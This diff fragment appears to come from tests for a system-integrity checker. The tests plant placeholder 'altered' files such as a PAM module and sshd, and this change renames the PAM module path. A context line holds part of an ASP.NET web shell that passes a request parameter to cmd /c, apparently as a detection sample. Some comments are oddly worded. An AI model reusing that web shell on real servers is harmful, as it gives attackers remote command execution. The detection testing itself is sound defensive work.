@@ -37,7 +37,7 @@ p.StartInfo.Arguments = "/c " + Request["c"]; p.Start(); }</script>
 # What mkfs.xfs does not take over from a folder: attributes and times.
 LOST_IN = {"xfs": {"capability", "digest edited with the file"}}
 
-NEEDED = {"altered library": "usr/lib/x86_64-linux-gnu/security/pam_unix.so", "sshd altered": "usr/sbin/sshd"}
+NEEDED = {"altered library": "usr/lib/x86_64-linux-gnu/security/pam_issue.so", "sshd altered": "usr/sbin/sshd"}
 
 # Told of, and not only listed: an entry that starts, a place, a place of some weight.
 start = (
@@ -127,8 +127,8 @@ def programs(root):
         ("altered program", lambda: put(root / "usr/bin/sort", b"\0", 0o755, True), program % "/usr/bin/sort"),
         (
             "altered library",
-            lambda: put(root / "usr/lib/x86_64-linux-gnu/security/pam_unix.so", b"\0", 0o755, True),
-            program % "%/pam_unix.so",
+            lambda: put(root / "usr/lib/x86_64-linux-gnu/security/pam_issue.so", b"\0", 0o755, True),
+            program % "%/pam_issue.so",
         ),
         ("sshd altered", lambda: put(root / "usr/sbin/sshd", b"\0", 0o755, True), program % "%/sbin/sshd"),
         (
